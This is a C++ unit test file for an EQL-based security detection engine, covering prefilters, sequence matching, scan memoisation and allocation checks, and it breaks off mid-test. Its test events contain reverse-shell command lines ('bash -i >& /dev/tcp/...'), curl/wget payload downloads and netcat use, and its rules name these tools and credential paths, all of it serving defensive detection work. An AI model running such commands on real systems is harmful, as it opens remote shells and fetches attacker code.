// Matching engine: prefilter, category index, lineage, sequences, joins, bounds, pipes.
// Rules are real EQL (Elastic dialect, ECS fields) compiled by the EQL compiler.
// The replaced global operator new/delete below pair malloc/free; GCC cannot see that.
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"

#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <new>
#include <string>
#include <tuple>
#include <vector>

#include "eql/compile/compiler.h"
#include "match/engine.h"
#include "match/lineage.h"
#include "match/prefilter.h"
#include "match/strings.h"

// Counts heap allocations so the single-event path can be checked to be allocation free.
namespace {
std::atomic<uint64_t> g_allocs{0};
}
void* operator new(std::size_t n) {
  g_allocs.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(n ? n : 1)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept {
  std::free(p);
}
void operator delete(void* p, std::size_t) noexcept {
  std::free(p);
}

namespace wsn::match {
namespace {

constexpr int64_t kSec = 1'000'000'000;

struct Hit {
  uint32_t rule;
  std::vector<std::string> names;  // process.name / file.path of each event
};

class Sink : public MatchSink {
 public:
  void on_match(uint32_t rule, std::span<const Event* const> events) override {
    Hit h{rule, {}};
    for (const Event* e : events) {
      FieldView v;
      h.names.emplace_back(e->get(fields::kProcessName, v) ? v.s : "?");
    }
    hits.push_back(std::move(h));
  }
  std::vector<Hit> hits;
};

class CountSink : public MatchSink {
 public:
  void on_match(uint32_t, std::span<const Event* const>) override { ++count; }
  size_t count = 0;
};

class EngineTest : public ::testing::Test {
 protected:
  std::shared_ptr<const CompiledRules> compile(const std::vector<std::string>& queries,
                                               eql::CompileOptions opt = {}) {
    std::vector<SourceText> texts;
    for (size_t k = 0; k < queries.size(); ++k)
      texts.emplace_back("r" + std::to_string(k), queries[k]);
    std::vector<eql::EqlRuleSource> src;
    for (size_t k = 0; k < texts.size(); ++k) src.push_back({static_cast<uint32_t>(k), &texts[k]});
    std::vector<Diagnostics> diags(queries.size());
    auto rules = eql::compile_eql_rules(src, reg_, opt, diags);
    for (size_t k = 0; k < diags.size(); ++k) {
      EXPECT_FALSE(diags[k].has_errors()) << diags[k].render(texts[k]);
    }
    return rules;
  }
  Event proc(std::string_view name, int64_t t_sec = 0, std::string_view cmd = "",
             std::string_view entity = "", std::string_view parent = "",
             std::string_view type = "start") {
    Event e;
    e.set_category(categories::kProcess);
    e.set_string(fields::kProcessName, name);
    if (!cmd.empty()) e.set_string(fields::kProcessCommandLine, cmd);
    if (!entity.empty()) e.set_string(fields::kProcessEntityId, entity);
    if (!parent.empty()) e.set_string(fields::kProcessParentEntityId, parent);
    const std::string_view types[] = {type};
    e.set_string_list(fields::kEventType, types);
    e.set_timestamp(fields::kTimestamp, t_sec * kSec);
    return e;
  }
  Event file(std::string_view path, int64_t t_sec = 0, std::string_view entity = "") {
    Event e;
    e.set_category(categories::kFile);
    e.set_string(fields::kFilePath, path);
    e.set_string(fields::kProcessName, path);
    if (!entity.empty()) e.set_string(fields::kProcessEntityId, entity);
    e.set_timestamp(fields::kTimestamp, t_sec * kSec);
    return e;
  }
  // `events` through `queries` on the engine's path, expected to raise what the reference path
  // (every predicate in full) raises: (rule, the first event's process.name) per alert, and the
  // scan memo's counters of the engine's path.
  struct Run {
    std::vector<std::pair<uint32_t, std::string>> alerts;
    uint64_t memo_hits = 0, memo_misses = 0;
  };
  Run run_both(const std::vector<std::string>& queries, const std::vector<Event>& events) {
    Run runs[2];
    for (bool reference : {false, true}) {
      set_reference_matching(reference);
      auto rules = compile(queries);
      set_reference_matching(false);
      auto m = rules->make_matcher();
      Sink sink;
      for (const Event& e : events) m->process(e, sink);
      Run& r = runs[reference ? 1 : 0];
      for (const Hit& h : sink.hits) r.alerts.emplace_back(h.rule, h.names.at(0));
      auto* info = dynamic_cast<const RuleMatcherInfo*>(m.get());
      EXPECT_NE(info, nullptr);
      if (info != nullptr) {
        r.memo_hits = info->memo_hits();
        r.memo_misses = info->memo_misses();
      }
    }
    EXPECT_EQ(runs[0].alerts, runs[1].alerts);
    EXPECT_EQ(runs[1].memo_hits + runs[1].memo_misses, 0u);  // the reference has no scan
    return runs[0];
  }
  FieldRegistry reg_;
};

TEST_F(EngineTest, SingleEventRulesByCategoryAndAny) {
  auto rules = compile({"process where process.name == \"nc\"", "any where process.name : \"NC\"",
                        "file where file.path : \"/tmp/*\""});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("nc"), sink);
  m->process(file("/tmp/x"), sink);
  m->process(proc("bash"), sink);
  ASSERT_EQ(sink.hits.size(), 3u);
  EXPECT_EQ(sink.hits[0].rule, 0u);
  EXPECT_EQ(sink.hits[1].rule, 1u);
  EXPECT_EQ(sink.hits[2].rule, 2u);
}

TEST_F(EngineTest, PrefilterSkipsRulesWhoseLiteralsAreAbsent) {
  std::vector<std::string> qs;
  for (int k = 0; k < 1000; ++k) {
    qs.push_back("process where process.name == \"tool" + std::to_string(k) +
                 "\" and process.pid > 0");
  }
  qs.push_back("process where process.command_line : \"*/dev/tcp/*\"");
  auto rules = compile(qs);
  auto m = rules->make_matcher();
  Sink sink;
  Event e = proc("tool517");
  e.set_int(fields::kProcessPid, 3);
  m->process(e, sink);
  m->process(proc("bash", 0, "bash -i >& /dev/tcp/10.0.0.1/4444"), sink);
  ASSERT_EQ(sink.hits.size(), 2u);
  EXPECT_EQ(sink.hits[0].rule, 517u);
  EXPECT_EQ(sink.hits[1].rule, 1000u);
  // "tool517" also contains "tool5", "tool51": a handful of evaluations, not 1000 per event.
  EXPECT_LE(m->stats().evaluations, 6u);
  auto* info = dynamic_cast<const RuleMatcherInfo*>(m.get());
  ASSERT_NE(info, nullptr);
}

// Every rule also carries a generic `event.type == "start"` that all process starts share: the
// prefilter must key on the selective `process.name` equality, not on the generic conjunct.
TEST_F(EngineTest, PrefilterKeysOnSelectiveConjunctNotGenericEnumeration) {
  std::vector<std::string> qs;
  for (int k = 0; k < 1000; ++k) {
    qs.push_back("process where event.type == \"start\" and process.name == \"tool" +
                 std::to_string(k) + "\"");
  }
  auto rules = compile(qs);
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("tool517"), sink);
  m->process(proc("TOOL42"), sink);  // `==` is case-sensitive: evaluated, does not match
  m->process(proc("bash"), sink);
  m->process(proc("tool7", 0, "", "", "", "end"), sink);
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].rule, 517u);
  // One candidate per event at most (exact-value index), never the 1,000 rules.
  EXPECT_LE(m->stats().evaluations, 3u);
}

// `destination.port == N` / `in (...)` steps are indexed by integer value, and steps that can
// only advance or cancel a pending partial are not evaluated while none is pending.
TEST_F(EngineTest, IntegerEqualityIndexAndIdleSequenceSteps) {
  std::vector<std::string> qs;
  for (int k = 0; k < 500; ++k) {
    qs.push_back(
        "sequence by process.entity_id [process where event.type == \"start\" and "
        "process.name == \"tool" +
        std::to_string(k) +
        "\"] [network where "
        "destination.port == " +
        std::to_string(10000 + k) +
        "] until [process where "
        "event.type == \"end\"]");
  }
  qs.push_back("network where destination.port in (22, 2222) and process.name == \"sshd\"");
  qs.push_back("network where destination.ip == \"10.0.0.1\"");
  auto rules = compile(qs);
  auto m = rules->make_matcher();
  Sink sink;
  auto net = [](int64_t port, int64_t t, std::string_view entity, std::string_view name) {
    Event e;
    e.set_category(categories::kNetwork);
    e.set_int(fields::kDestinationPort, port);
    e.set_string(fields::kProcessEntityId, entity);
    e.set_string(fields::kProcessName, name);
    IpAddress ip;
    EXPECT_TRUE(IpAddress::parse("10.0.0.1", ip));
    e.set_ip(fields::kDestinationIp, ip);
    e.set_timestamp(fields::kTimestamp, t * kSec);
    return e;
  };
  m->process(proc("bash", 0, "", "p0", "", "end"), sink);  // no partial: until is idle
  m->process(net(10007, 1, "p1", "x"), sink);              // no partial: step 2 is idle
  EXPECT_EQ(m->stats().evaluations, 1u);                   // the destination.ip rule only
  m->process(proc("tool7", 2, "", "p1"), sink);
  m->process(net(10008, 3, "p1", "x"), sink);  // another rule's port
  m->process(net(10007, 4, "p1", "x"), sink);  // completes rule 7
  m->process(net(2222, 5, "p2", "sshd"), sink);
  std::vector<uint32_t> got;
  for (const Hit& h : sink.hits) got.push_back(h.rule);
  EXPECT_EQ(got, (std::vector<uint32_t>{501, 501, 7, 501, 500, 501}));
  EXPECT_LE(m->stats().evaluations, 8u);
}

// Identical predicates of different rules (the ubiquitous `until [process where event.type ==
// "end"]`) are evaluated once per event, and their results still apply to every rule.
TEST_F(EngineTest, IdenticalPredicatesAreEvaluatedOncePerEvent) {
  std::vector<std::string> qs;
  for (int k = 0; k < 200; ++k) {
    qs.push_back("sequence by process.entity_id with maxspan=" + std::to_string(k + 10) +
                 "s [process where event.type == \"start\" and process.name == \"a\"] "
                 "[file where file.path : \"/x\"] "
                 "until [process where event.type == \"end\"]");
  }
  qs.push_back("process where event.type == \"end\" and process.name == \"a\"");
  auto rules = compile(qs);
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("a", 0, "", "p1"), sink);
  EXPECT_EQ(m->stats().pending_sequences, 200u);
  // The shared first step once; rule 200 not at all (its `event.type == "end"` guard fails).
  EXPECT_EQ(m->stats().evaluations, 1u);
  m->process(proc("a", 1, "", "p1", "", "end"), sink);  // cancels all 200, fires rule 200
  EXPECT_EQ(m->stats().pending_sequences, 0u);
  EXPECT_EQ(m->stats().expired_sequences, 200u);
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].rule, 200u);
  // The until and rule 200 once each; the first step not (its "start" guard fails).
  EXPECT_EQ(m->stats().evaluations, 3u);
}

// Rules whose `until` is the same predicate on the same key fields share one dispatch: an
// ending process removes the partial matches holding its key, of each such rule, and nothing
// else; a different `until` predicate or different key fields are groups of their own.
TEST_F(EngineTest, UntilRemovesOnlyThePartialsHoldingTheEventsKey) {
  auto seq = [](std::string_view by, std::string_view name, std::string_view until) {
    return "sequence by " + std::string(by) +
           " [process where event.type == \"start\" and process.name == \"" + std::string(name) +
           "\"] [file where file.path : \"/x\"] until [process where " + std::string(until) + "]";
  };
  auto rules = compile({
      seq("process.entity_id", "a", "event.type == \"end\""),
      seq("process.entity_id", "b", "event.type == \"end\""),
      seq("process.entity_id", "a", "event.type == \"end\" and process.name == \"zzz\""),
      seq("process.parent.entity_id", "a", "event.type == \"end\""),
  });
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("a", 0, "", "p1", "pp"), sink);  // rules 0 and 2 (key p1), rule 3 (key pp)
  m->process(proc("b", 1, "", "p2", "qq"), sink);  // rule 1 (key p2)
  EXPECT_EQ(m->stats().pending_sequences, 4u);
  m->process(proc("b", 2, "", "p2", "qq", "end"), sink);
  EXPECT_EQ(m->stats().pending_sequences, 3u);  // rule 1's only
  EXPECT_EQ(m->stats().expired_sequences, 1u);
  m->process(proc("a", 3, "", "p1", "pp", "end"), sink);
  EXPECT_EQ(m->stats().pending_sequences, 1u);  // rule 0 (key p1) and rule 3 (key pp) go
  EXPECT_EQ(m->stats().expired_sequences, 3u);
  Event f = file("/x", 4, "p1");
  f.set_string(fields::kProcessParentEntityId, "pp");
  m->process(f, sink);
  ASSERT_EQ(sink.hits.size(), 1u);  // rule 2: its `until` never held
  EXPECT_EQ(sink.hits[0].rule, 2u);
  EXPECT_EQ(m->stats().pending_sequences, 0u);
}

// A generic conjunct on an enumeration field (`event.type == "start"`) is left out of the
// prefilter, but it is checked once per event for every predicate that carries it: the end of a
// process does not evaluate each `process.name == …` start predicate, and the answer is the
// same as a full evaluation's.
TEST_F(EngineTest, EnumerationGuardIsCheckedOncePerEventBeforeEvaluation) {
  std::vector<std::string> qs;
  for (int k = 0; k < 50; ++k) {
    qs.push_back(
        "process where event.type == \"start\" and process.name == \"a\" and "
        "process.pid > " +
        std::to_string(k));
  }
  qs.push_back("process where event.type : \"END\" and process.name == \"a\"");
  qs.push_back("process where event.type == \"end\" or process.name == \"zz\"");  // no guard
  auto rules = compile(qs);
  auto m = rules->make_matcher();
  CountSink sink;
  m->process(proc("a", 0, "", "p1", "", "end"), sink);
  EXPECT_EQ(sink.count, 2u);  // the case-insensitive "END" rule and the `or` rule
  EXPECT_EQ(m->stats().evaluations, 2u);
  Event start = proc("a", 1, "", "p1");
  start.set_int(fields::kProcessPid, 10);
  m->process(start, sink);
  EXPECT_EQ(sink.count, 2u + 10u);  // pid 10 > k for k = 0..9
  // The `or` rule is gated by its branches (event.type "end" or process.name "zz"): skipped.
  EXPECT_EQ(m->stats().evaluations, 2u + 50u);
}

TEST_F(EngineTest, EveryConjunctRequirementGatesEvaluation) {
  auto rules = compile({
      "process where event.type == \"start\" and process.name in (\"curl\", \"wget\") and "
      "process.command_line : \"*evil.sh*\"",
      "process where process.name == \"curl\" and process.args : (\"-x\", \"-y\")",
  });
  auto m = rules->make_matcher();
  Sink sink;
  // A near miss: the name hits, the command line does not contain the literal.
  m->process(proc("curl", 0, "curl http://example.com/ok.sh"), sink);
  m->process(proc("bash", 1, "bash /tmp/evil.sh"), sink);  // only the literal hits
  EXPECT_EQ(m->stats().evaluations, 0u);
  EXPECT_TRUE(sink.hits.empty());
  m->process(proc("wget", 2, "wget http://example.com/EVIL.SH"), sink);  // `:` ignores case
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].rule, 0u);
  EXPECT_EQ(m->stats().evaluations, 1u);
  // A list field: one item meets the second requirement.
  Event e = proc("curl", 3);
  const std::string_view args[] = {"curl", "-y", "http://x"};
  e.set_string_list(fields::kProcessArgs, args);
  m->process(e, sink);
  ASSERT_EQ(sink.hits.size(), 2u);
  EXPECT_EQ(sink.hits[1].rule, 1u);
}

// Elastic's Linux rules: `host.os.type == "linux"` holds on every event of a Linux host and
// must never be the discriminator; a disjunction over different fields (and conjunctions inside
// it) gates evaluation by any one branch's requirement.
TEST_F(EngineTest, DisjunctionsAcrossFieldsGateAndHostConstantsDoNot) {
  const FieldId os = reg_.find("host.os.type");
  ASSERT_NE(os, kInvalidField);
  auto rules = compile({
      "process where host.os.type == \"linux\" and event.type == \"start\" and (\n"
      "  process.name in (\"nc\", \"ncat\") or process.command_line : \"*/dev/tcp/*\" or\n"
      "  (process.parent.name == \"nginx\" and process.name : \"*sh\"))",
  });
  auto m = rules->make_matcher();
  Sink sink;
  auto linux_proc = [&](std::string_view name, int64_t t, std::string_view cmd,
                        std::string_view parent_name = "") {
    Event e = proc(name, t, cmd);
    e.set_string(os, "linux");
    if (!parent_name.empty()) e.set_string(fields::kProcessParentName, parent_name);
    return e;
  };
  m->process(linux_proc("bash", 0, "bash -c ls"), sink);  // no branch's literal: skipped
  m->process(linux_proc("ls", 1, "ls /"), sink);
  EXPECT_EQ(m->stats().evaluations, 0u);
  m->process(linux_proc("NC", 2, "nc -l"), sink);  // `in` is case-sensitive: evaluated, no match
  m->process(linux_proc("nc", 3, "nc -l"), sink);
  m->process(linux_proc("bash", 4, "bash -i >& /dev/tcp/1.2.3.4/4444"), sink);
  m->process(linux_proc("dash", 5, "dash", "nginx"), sink);
  m->process(linux_proc("ls", 6, "ls", "nginx"), sink);  // near miss: evaluated, no match
  ASSERT_EQ(sink.hits.size(), 3u);
  EXPECT_EQ(sink.hits[0].names[0], "nc");
  EXPECT_EQ(sink.hits[1].names[0], "bash");
  EXPECT_EQ(sink.hits[2].names[0], "dash");
  EXPECT_EQ(m->stats().evaluations, 5u);

  // Extraction: the disjunction's alternatives on three fields; host.os.type is not among them.
  Program p;
  StringMatcherSpec linux_spec;
  linux_spec.kind = StrMatchKind::kExact;
  linux_spec.patterns = {"linux"};
  const NodeRef host =
      p.str_match(p.field(os, StaticType::kString), StringMatcher::create(linux_spec, nullptr));
  StringMatcherSpec nc;
  nc.kind = StrMatchKind::kExact;
  nc.patterns = {"nc"};
  const NodeRef name = p.str_match(p.field(fields::kProcessName, StaticType::kString),
                                   StringMatcher::create(nc, nullptr));
  StringMatcherSpec tcp;
  tcp.kind = StrMatchKind::kWildcard;
  tcp.patterns = {"*/dev/tcp/*"};
  const NodeRef cmd = p.str_match(p.field(fields::kProcessCommandLine, StaticType::kString),
                                  StringMatcher::create(tcp, nullptr));
  const NodeRef either[] = {name, cmd};
  const NodeRef all[] = {host, p.or_(either)};
  const auto sets = extract_requirement_sets(p, p.and_(all), 4);
  ASSERT_EQ(sets.size(), 1u);
  ASSERT_EQ(sets[0].size(), 2u);
  EXPECT_EQ(sets[0][0].field, fields::kProcessName);
  EXPECT_EQ(sets[0][1].field, fields::kProcessCommandLine);
  // Alone, the host constant is still better than nothing.
  const auto only = extract_requirement_sets(p, host, 4);
  ASSERT_EQ(only.size(), 1u);
  EXPECT_EQ(only[0][0].field, os);
}

TEST_F(EngineTest, StringFunctionsAreSubstringRequirements) {
  auto rules = compile({
      "process where event.type == \"start\" and startsWith(process.executable, \"/tmp/\")",
      "process where endsWith~(process.executable, \".SH\")",
      "process where stringContains(process.executable, \"shm\")",
  });
  auto m = rules->make_matcher();
  Sink sink;
  auto exec = [&](std::string_view path, int64_t t) {
    Event e = proc("x", t);
    e.set_string(fields::kProcessExecutable, path);
    m->process(e, sink);
  };
  exec("/usr/bin/ls", 0);
  EXPECT_EQ(m->stats().evaluations, 0u);  // no literal in the path: nothing evaluated
  exec("/tmp/x", 1);
  exec("/usr/tmp/x", 2);  // contains "/tmp/": evaluated, false
  exec("/dev/shm/a.sh", 3);
  ASSERT_EQ(sink.hits.size(), 3u);
  EXPECT_EQ(sink.hits[0].rule, 0u);
  EXPECT_EQ(sink.hits[1].rule, 1u);
  EXPECT_EQ(sink.hits[2].rule, 2u);
}

TEST_F(EngineTest, AnchoredLiteralsAndRegexLiteralsGateEvaluation) {
  auto rules = compile({
      "file where file.path : \"*/dev\"",
      "file where file.path : \"/etc/*\"",
      "file where startsWith(file.path, \"/srv/\") or endsWith(file.path, \".pem\")",
      "process where process.command_line regex~ \".*(curl|wget) .*https?://[0-9.]+/.*\"",
  });
  auto m = rules->make_matcher();
  Sink sink;
  // The literals occur, but not where the pattern needs them: nothing is evaluated.
  for (const char* path : {"/home/dev/x", "/x/etc/passwd", "/usr/srv/a", "/a.pem/b"}) {
    m->process(file(path), sink);
  }
  m->process(proc("sh", 0, "ls /tmp"), sink);
  EXPECT_EQ(m->stats().evaluations, 0u);
  EXPECT_TRUE(sink.hits.empty());
  m->process(file("/x/dev"), sink);
  m->process(file("/ETC/hosts"), sink);  // `:` ignores case, and so does the prefilter
  m->process(file("/etc/hosts"), sink);
  m->process(file("/srv/a"), sink);
  m->process(file("/b/c.pem"), sink);
  m->process(proc("curl", 1, "CURL -s http://10.1.2.3/x"), sink);
  m->process(proc("wget", 1, "wget example.org"), sink);  // evaluated, fails
  EXPECT_EQ(m->stats().evaluations, 7u);
  ASSERT_EQ(sink.hits.size(), 6u);
  EXPECT_EQ(sink.hits[0].rule, 0u);
  EXPECT_EQ(sink.hits[1].rule, 1u);
  EXPECT_EQ(sink.hits[2].rule, 1u);
  EXPECT_EQ(sink.hits[3].rule, 2u);
  EXPECT_EQ(sink.hits[4].rule, 2u);
  EXPECT_EQ(sink.hits[5].rule, 3u);
}

// The literal scan keeps, per field, what recent values met (RuleMatcher::ScanMemo): a value
// seen again must select exactly what a fresh scan selects, whatever its case, its anchors,
// and when more distinct values than the memo holds evict each other. Compared with the
// reference path, which runs every predicate in full.
TEST_F(EngineTest, ScanMemoSelectsWhatAFreshScanSelects) {
  const std::vector<std::string> qs = {
      "process where process.command_line : \"*/dev/tcp/*\"",
      "process where process.command_line : \"/usr/bin/curl -s *\"",          // prefix
      "process where process.command_line : \"* --output /tmp/payload.sh\"",  // suffix
      "process where process.command_line : \"/bin/sh -c id; uname -a\"",     // whole value
      "process where process.command_line : \"*vm.swappiness*\" and process.name == \"sysctl\"",
  };
  std::vector<Event> events;
  const char* cmds[] = {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                        "/usr/bin/curl -s http://10.0.0.1/x --output /tmp/payload.sh",
                        "/USR/BIN/CURL -s http://10.0.0.1/x",  // `:` ignores case
                        "/usr/bin/wget -s http://10.0.0.1/x --output /tmp/payload.sh",
                        "x /usr/bin/curl -s http://10.0.0.1/x",  // the prefix, not at the start
                        "/bin/sh -c id; uname -a",
                        "/bin/sh -c id; uname -a; w",  // the whole value, then more
                        "sysctl -w vm.swappiness=100"};
  for (int round = 0; round < 3; ++round) {
    for (const char* c : cmds) events.push_back(proc(round == 1 ? "sysctl" : "sh", 0, c));
  }
  // More distinct values than the memo has slots, twice over: colliding values evict each other.
  for (int round = 0; round < 2; ++round) {
    for (int k = 0; k < 1500; ++k) {
      events.push_back(proc("sh", 0, "/usr/bin/curl -s http://10.0.0." + std::to_string(k) + "/"));
      events.push_back(proc("sh", 0, "/bin/true --arg=" + std::to_string(k)));
    }
  }
  const Run run = run_both(qs, events);
  const auto& fast = run.alerts;
  const uint64_t memo_hits = run.memo_hits, memo_misses = run.memo_misses;
  // 3 rounds of the 8 commands: every repeat of a command line is a memo hit and every first
  // sight a miss.
  EXPECT_GE(memo_hits, 16u);
  EXPECT_GE(memo_misses, 8u + 2 * 3000u - 2 * 512u);
  // Per round: 2 curl prefixes + 1 suffix + 1 /dev/tcp + 1 whole; sysctl only in round 1.
  size_t per_rule[5] = {};
  for (const auto& [rule, name] : fast) ++per_rule[rule];
  EXPECT_EQ(per_rule[0], 3u);
  EXPECT_EQ(per_rule[1], 6u + 3000u);
  EXPECT_EQ(per_rule[2], 6u);
  EXPECT_EQ(per_rule[3], 3u);
  EXPECT_EQ(per_rule[4], 1u);
}

// `any where` rules' first requirements are copied into every category bucket (Engine::merge_any)
// and skipped in the `any` bucket for events of such a category: the same alerts as the reference
// path, for events of a category with rules of its own, of one without (network here), and for a
// field another rule reads lazily (process.args: merged nowhere).
TEST_F(EngineTest, AnyRulesMergedIntoCategoryBucketsSelectTheSame) {
  const std::vector<std::string> qs = {
      "any where process.executable : \"*/nc\"",
      "any where process.name in (\"curl\", \"wget\") and process.command_line : \"*http*\"",
      "process where process.executable : \"*/curl\"",
      "process where process.command_line : \"*--insecure*\" and process.name == \"curl\"",
      "file where file.path : \"/etc/*\" and process.name == \"nc\"",
      "any where process.args : \"-e\" and process.name : \"nc*\"",
  };
  std::vector<Event> events;
  for (std::string_view category : {"process", "file", "network"}) {
    for (std::string_view exe : {"/usr/bin/nc", "/usr/bin/curl", "/bin/ls"}) {
      Event e =
          proc(exe.substr(exe.rfind('/') + 1), 0, std::string(exe) + " -e --insecure http://x");
      e.set_category(category == "process" ? categories::kProcess
                     : category == "file"  ? categories::kFile
                                           : categories::kNetwork);
      e.set_string(fields::kProcessExecutable, exe);
      e.set_string(fields::kFilePath, "/etc/passwd");
      const std::string_view args[] = {exe, "-e"};
      e.set_string_list(fields::kProcessArgs, args);
      events.push_back(std::move(e));
    }
  }
  const auto fast = run_both(qs, events).alerts;
  size_t per_rule[6] = {};
  for (const auto& [rule, name] : fast) ++per_rule[rule];
  EXPECT_EQ(per_rule[0], 3u);  // nc, in each of the three categories
  EXPECT_EQ(per_rule[1], 3u);  // curl
  EXPECT_EQ(per_rule[2], 1u);
  EXPECT_EQ(per_rule[3], 1u);
  EXPECT_EQ(per_rule[4], 1u);
  EXPECT_EQ(per_rule[5], 3u);
}

TEST_F(EngineTest, MaxspanExpiryWithEventTimeGoingBack) {
  auto rules =
      compile({"sequence by process.entity_id with maxspan=10s [process where process.name == "
               "\"a\"] [process where process.name == \"b\"]"});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("a", 20, "", "p1"), sink);  // due after 30
  m->process(proc("a", 5, "", "p2"), sink);   // time goes back: due after 15
  m->process(proc("a", 12, "", "p3"), sink);  // due after 22
  EXPECT_EQ(m->stats().pending_sequences, 3u);
  m->process(proc("x", 16, "", "p9"), sink);
  EXPECT_EQ(m->stats().expired_sequences, 1u);  // p2 only
  m->process(proc("b", 17, "", "p1"), sink);    // p1 still within its span
  ASSERT_EQ(sink.hits.size(), 1u);
  m->process(proc("b", 23, "", "p3"), sink);  // p3 expired first
  EXPECT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(m->stats().expired_sequences, 2u);
  EXPECT_EQ(m->stats().pending_sequences, 0u);
}

TEST_F(EngineTest, SingleEventPathDoesNotAllocateOnceWarm) {
  auto rules =
      compile({"process where process.name in (\"nc\", \"ncat\") and "
               "concat(process.name, \"-\", process.pid) == \"nc-4\"",
               "process where process.command_line : \"*curl*\""});
  auto m = rules->make_matcher();
  CountSink sink;
  Event e = proc("nc", 0, "curl http://x");
  e.set_int(fields::kProcessPid, 4);
  m->process(e, sink);  // warm up
  const uint64_t before = g_allocs.load();
  for (int k = 0; k < 100; ++k) m->process(e, sink);
  EXPECT_EQ(g_allocs.load() - before, 0u);
  EXPECT_EQ(sink.count, 202u);
}

TEST_F(EngineTest, RequirementExtraction) {
  Program p;
  StringMatcherSpec spec;
  spec.kind = StrMatchKind::kExact;
  spec.patterns = {"NC"};
  const NodeRef a = p.str_match(p.field(fields::kProcessName, StaticType::kString),
                                StringMatcher::create(spec, nullptr));
  const NodeRef b = p.compare(CmpOp::kGt, CaseMode::kSensitive,
                              p.field(fields::kProcessPid, StaticType::kInt), p.int_node(1));
  const NodeRef both[] = {b, a};
  auto r = extract_requirement(p, p.and_(both));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kProcessName);
  EXPECT_EQ(r->literals, std::vector<std::string>{"nc"});
  EXPECT_FALSE(extract_requirement(p, p.not_(a)));
  EXPECT_FALSE(extract_requirement(p, b));

  // A generic enumeration field loses to any other conjunct, even one with a shorter literal.
  StringMatcherSpec start;
  start.kind = StrMatchKind::kExact;
  start.patterns = {"start"};
  const NodeRef generic = p.str_match(p.field(fields::kEventType, StaticType::kStringList),
                                      StringMatcher::create(start, nullptr));
  const NodeRef with_generic[] = {generic, a};
  r = extract_requirement(p, p.and_(with_generic));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kProcessName);
  EXPECT_EQ(r->kind, RequirementKind::kExact);
  r = extract_requirement(p, generic);  // alone, it is still better than nothing
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kEventType);
  // Integer equality is a requirement too.
  const NodeRef port =
      p.compare(CmpOp::kEq, CaseMode::kSensitive,
                p.field(fields::kDestinationPort, StaticType::kInt), p.int_node(4444));
  const NodeRef with_port[] = {generic, port};
  r = extract_requirement(p, p.and_(with_port));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->kind, RequirementKind::kInt);
  EXPECT_EQ(r->ints, std::vector<int64_t>{4444});
}

// Elastic's rules pair a list of everyday names with a rare literal (`process.name in ("bash",
// "sh", ...) and process.command_line like "*vm.swappiness*"`): the long literal, or an anchored
// one of 5+ bytes, keys the rule, not the list of names; a short literal does not.
TEST(Prefilter, LongOrAnchoredLiteralOutranksAListOfNames) {
  Program p;
  StringMatcherSpec shells;
  shells.kind = StrMatchKind::kExact;
  shells.patterns = {"bash", "sh", "dash"};
  const NodeRef names = p.str_match(p.field(fields::kProcessName, StaticType::kString),
                                    StringMatcher::create(shells, nullptr));
  auto literal = [&](FieldId field, std::string pattern) {
    StringMatcherSpec w;
    w.kind = StrMatchKind::kWildcard;
    w.question_mark = true;
    w.mode = CaseMode::kInsensitive;
    w.patterns = {std::move(pattern)};
    return p.str_match(p.field(field, StaticType::kString), StringMatcher::create(w, nullptr));
  };
  const NodeRef swappiness[] = {names, literal(fields::kProcessCommandLine, "*vm.swappiness*")};
  auto r = extract_requirement(p, p.and_(swappiness));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kProcessCommandLine);
  EXPECT_EQ(r->literals, std::vector<std::string>{"vm.swappiness"});
  const NodeRef python[] = {names, literal(fields::kProcessParentName, "python*")};
  r = extract_requirement(p, p.and_(python));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kProcessParentName);
  const NodeRef short_literal[] = {names, literal(fields::kProcessCommandLine, "*-c*")};
  r = extract_requirement(p, p.and_(short_literal));
  ASSERT_TRUE(r);
  EXPECT_EQ(r->field, fields::kProcessName);
  EXPECT_EQ(r->kind, RequirementKind::kExact);
}

TEST(HashBytes, FoldedHashIgnoresAsciiCaseOnly) {
  const std::string upper = "/USR/Bin/Python3.11-CONFIG \xC3\x84Z@[`{";
  const std::string lower = "/usr/bin/python3.11-config \xC3\x84z@[`{";
  EXPECT_EQ(hash_bytes(upper, true), hash_bytes(lower, true));
  EXPECT_NE(hash_bytes(upper, false), hash_bytes(lower, false));
  EXPECT_NE(hash_bytes("a", true), hash_bytes(std::string_view("a\0", 2), true));
  EXPECT_NE(hash_bytes("@[@[@[@[", true), hash_bytes("`{`{`{`{", true));  // not letters
  for (size_t n = 0; n < upper.size(); ++n) {
    EXPECT_EQ(hash_bytes(upper.substr(0, n), true), hash_bytes(lower.substr(0, n), true)) << n;
    EXPECT_NE(hash_bytes(lower.substr(0, n), true), hash_bytes(lower.substr(0, n + 1), true));
  }
}

TEST(AhoCorasick, FindsOverlappingPatternsIgnoringCase) {
  AhoCorasick ac;
  const uint32_t he = ac.add("he");
  const uint32_t she = ac.add("she");
  const uint32_t hers = ac.add("hers");
  ac.build();
  std::vector<uint32_t> found;
  ac.scan("uSHERS", [&](uint32_t id) { found.push_back(id); });
  EXPECT_EQ(found, (std::vector<uint32_t>{she, he, hers}));
}

TEST_F(EngineTest, SequenceByKeysDifferentFieldsPerStep) {
  auto rules =
      compile({"sequence [file where file.path : \"/tmp/*\"] by file.path "
               "[process where true] by process.executable"});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(file("/tmp/a", 1), sink);
  m->process(file("/tmp/b", 2), sink);
  Event p = proc("b", 3);
  p.set_string(fields::kProcessExecutable, "/tmp/b");
